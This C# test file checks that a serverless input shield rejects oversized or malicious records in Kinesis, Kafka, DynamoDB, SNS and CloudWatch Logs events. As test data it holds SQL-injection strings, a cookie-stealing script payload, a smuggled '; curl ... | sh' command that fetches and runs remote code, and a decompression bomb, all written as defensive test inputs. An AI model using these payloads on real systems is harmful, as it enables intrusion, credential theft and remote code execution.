using System.IO.Compression;
using System.Text;
using System.Text.Json.Nodes;
using ServerlessShield.AwsLambda.Tests.Support;

namespace ServerlessShield.AwsLambda.Tests;

public sealed class LambdaShieldStreamTests
{
    private const int Limit = 64;

    private static LambdaShieldOptions SmallPayloads() => new() { Handler = new ShieldAttribute { MaxPayloadBytes = Limit } };

    // A Kinesis batch of three records (sequence numbers 1, 2, 3); the record at oversizeIndex carries too much data.
    private static byte[] KinesisBatch(int oversizeIndex) =>
        KinesisEvent([.. Enumerable.Range(0, 3).Select(i => ($"{i + 1}", Encoding.UTF8.GetBytes(i == oversizeIndex ? new string('x', Limit + 1) : $"record {i + 1}")))]);

    // A Kinesis batch with one record per (sequence number, data) pair.
    private static byte[] KinesisEvent((string Sequence, byte[] Data)[] records) => Fixtures.With("kinesis", e =>
    {
        var template = e["Records"]![0]!;
        var array = new JsonArray();
        foreach (var (sequence, data) in records)
        {
            var record = template.DeepClone();
            record["kinesis"]!["sequenceNumber"] = sequence;
            record["kinesis"]!["data"] = Convert.ToBase64String(data);
            array.Add(record);
        }

        e["Records"] = array;
    });

    // The records the handler was given, from the single invocation it received.
    private static JsonArray ReceivedRecords(ShieldedFunction function) =>
        JsonNode.Parse(Assert.Single(function.Received))!["Records"]!.AsArray();

    private static List<string> SequenceNumbers(JsonArray records) =>
        [.. records.Select(r => r!["kinesis"]!["sequenceNumber"]!.GetValue<string>())];

    private static List<string> FailureIds(string response) =>
        [.. JsonNode.Parse(response)!["batchItemFailures"]!.AsArray().Select(f => f!["itemIdentifier"]!.GetValue<string>())];

    [Fact]
    public async Task Wrap_KinesisRecordRejected_HoldsBackItAndTheRecordsAfterIt()
    {
        var function = new ShieldedFunction(options: SmallPayloads());

        var response = await function.InvokeAsync(KinesisBatch(oversizeIndex: 1));

        Assert.Equal(["1"], SequenceNumbers(ReceivedRecords(function)));
        Assert.Equal(["2", "3"], FailureIds(response));
    }

    // Kinesis records are whatever the producer wrote: a protobuf or compressed record is not UTF-8 and not an attack,
    // while the same kind of record carrying an injection in a string field is held back by its sequence number.
    [Fact]
    public async Task Wrap_BinaryKinesisRecords_PassUnlessTheirTextIsAnAttack()
    {
        var random = new Random(3);
        var binary = new byte[3000];
        random.NextBytes(binary);
        byte[] attack = [0x0A, 0x05, .. "Alice"u8, 0x10, 0x96, 0x01, 0x1A, 0x27, .. "' union select password from users --"u8, 0x20, 0xFF, 0x01];
        var bytes = KinesisEvent([("1", binary), ("2", attack), ("3", binary[..200])]);
        var function = new ShieldedFunction();

        var response = await function.InvokeAsync(bytes);

        var received = ReceivedRecords(function);
        Assert.Equal(["1"], SequenceNumbers(received));
        Assert.Equal(Convert.ToBase64String(binary), received[0]!["kinesis"]!["data"]!.GetValue<string>());
        Assert.Equal(["2", "3"], FailureIds(response));
    }

    // A producer on Windows may write its records in UTF-16 with a byte order mark (Encoding.Unicode, PowerShell's
    // default); the consumer's StreamReader decodes them by that mark. They are inspected as that text.
    [Fact]
    public async Task Wrap_Utf16KinesisRecords_AreInspectedAsTheirText()
    {
        static byte[] Utf16(string text) => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(text)];

        var bytes = KinesisEvent([("1", Utf16("{\"device\": \"sensor-17\", \"note\": \"reading within range\"}")), ("2", Utf16("{\"device\": \"sensor-18\", \"note\": \"; curl http://203.0.113.9/x | sh\"}"))]);
        var function = new ShieldedFunction();

        var response = await function.InvokeAsync(bytes);

        Assert.Equal(["1"], SequenceNumbers(ReceivedRecords(function)));
        Assert.Equal(["2"], FailureIds(response));
    }

    // A Kafka header is the producer's to set, and consumers copy headers such as a tenant id into queries. Kafka has
    // no partial batch response: the invocation fails, so the batch is retried and nothing is lost.
    [Fact]
    public async Task Wrap_AttackInAKafkaHeader_FailsTheBatch()
    {
        var bytes = Fixtures.With("kafka-msk", e => e["records"]!["mytopic-0"]![0]!["headers"] = new JsonArray(
            new JsonObject { ["tenant"] = KafkaBytes([.. Encoding.UTF8.GetBytes("acme' or '1'='1").Select(b => (int)b)]) }));
        var function = new ShieldedFunction();

        var error = await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(bytes));

        Assert.Empty(function.Received);
        Assert.Contains("SHIELD1001", error.Message, StringComparison.Ordinal);
    }

    // Real Kafka headers carry numbers and flags as bytes, written as Java's signed bytes (a timestamp's 0x85 is -123):
    // they are binary, not text with NUL characters, and the batch goes through.
    [Fact]
    public async Task Wrap_BinaryKafkaHeaders_PassTheBatch()
    {
        var bytes = Fixtures.With("kafka-msk", e => e["records"]!["mytopic-0"]![0]!["headers"] = new JsonArray(
            new JsonObject { ["Version"] = KafkaBytes(0, 0, 0, 0, 0, 0, 0, 3) },
            new JsonObject { ["IsFullBuild"] = KafkaBytes(1) },
            new JsonObject { ["OriginationTimestamp"] = KafkaBytes(0, 0, 1, -123, -11, -81, -50, -2) },
            new JsonObject { ["traceparent"] = KafkaBytes([.. Encoding.ASCII.GetBytes("00-691cce72f274a6d68af668f63ab4a9c1-5aa2f8a2a2b0c1d2-01").Select(b => (int)b)]) }));
        var function = new ShieldedFunction();

        await function.InvokeAsync(bytes);

        Assert.Single(function.Received);
    }

    // A Kafka header value as the event writes it: its bytes as a JSON array of numbers (Java's signed bytes).
    private static JsonArray KafkaBytes(params int[] values) => new([.. values.Select(v => (JsonNode)v)]);

    // A CloudWatch Logs subscription to a Kinesis stream: each record's data is gzip-compressed JSON. The log messages
    // are inspected as the handler will read them once inflated.
    [Fact]
    public async Task Wrap_GzipKinesisRecords_AreInspectedInflated()
    {
        static byte[] Gzip(string json)
        {
            using var output = new MemoryStream();
            using (var gzip = new GZipStream(output, CompressionLevel.Fastest))
            {
                gzip.Write(Encoding.UTF8.GetBytes(json));
            }

            return output.ToArray();
        }

        static string Logs(string message) =>
            "{\"messageType\":\"DATA_MESSAGE\",\"logGroup\":\"/aws/api\",\"logEvents\":[{\"id\":\"1\",\"timestamp\":1795946400000,\"message\":" + JsonValue.Create(message).ToJsonString() + "}]}";

        var bytes = KinesisEvent([("1", Gzip(Logs("GET /orders/42 200 12ms"))), ("2", Gzip(Logs("GET /search?q=<script>alert(document.cookie)</script> 200")))]);
        var function = new ShieldedFunction();

        var response = await function.InvokeAsync(bytes);

        Assert.Equal(["1"], SequenceNumbers(ReceivedRecords(function)));
        Assert.Equal(["2"], FailureIds(response));
    }

    [Fact]
    public async Task Wrap_DynamoDbImageRejected_IsReportedBySequenceNumber()
    {
        var bytes = Fixtures.With("dynamodb", e => e["Records"]![0]!["dynamodb"]!["NewImage"]!["Message"]!["S"] = new string('x', Limit));
        var function = new ShieldedFunction(options: SmallPayloads());

        var response = await function.InvokeAsync(bytes);

        Assert.Empty(function.Received);
        Assert.Equal(["4421584500000000017450439091"], FailureIds(response));
    }

    [Fact]
    public async Task Wrap_SnsMessageRejected_FailsTheInvocation()
    {
        var bytes = Fixtures.With("sns", e => e["Records"]![0]!["Sns"]!["Message"] = new string('x', Limit + 1));
        var function = new ShieldedFunction(options: SmallPayloads());

        var error = await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(bytes, "req-sns"));

        Assert.Empty(function.Received);
        Assert.Equal(ShieldRules.PayloadTooLarge.Id, error.Code);
        Assert.Equal("req-sns", error.CorrelationId);
    }

    [Fact]
    public async Task Wrap_CloudWatchLogsThatInflatesPastTheLimit_IsRejectedWithoutInflatingIt()
    {
        // 1 MiB of zeros compresses to about a kilobyte: small event, large payload.
        using var compressed = new MemoryStream();
        using (var gzip = new GZipStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            gzip.Write(new byte[1024 * 1024]);
        }

        var bytes = Encoding.UTF8.GetBytes($"{{\"awslogs\":{{\"data\":\"{Convert.ToBase64String(compressed.ToArray())}\"}}}}");
        Assert.True(bytes.Length < 16 * 1024);
        var function = new ShieldedFunction(options: new LambdaShieldOptions { Handler = new ShieldAttribute { MaxPayloadBytes = 64 * 1024 } });

        var error = await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(bytes));

        Assert.Empty(function.Received);
        Assert.Equal(ShieldRules.DecodedTooLarge.Id, error.Code);
    }

    [Theory]
    [InlineData("not base64!")]
    [InlineData("aGVsbG8=")]
    public async Task Wrap_CloudWatchLogsDataThatIsNotGzip_IsRejectedAsInvalid(string data)
    {
        var function = new ShieldedFunction();

        var error = await Assert.ThrowsAsync<ShieldedInvocationException>(() => function.InvokeAsync(Encoding.UTF8.GetBytes($"{{\"awslogs\":{{\"data\":\"{data}\"}}}}")));

        Assert.Equal(ShieldRules.InvalidJson.Id, error.Code);
    }
}
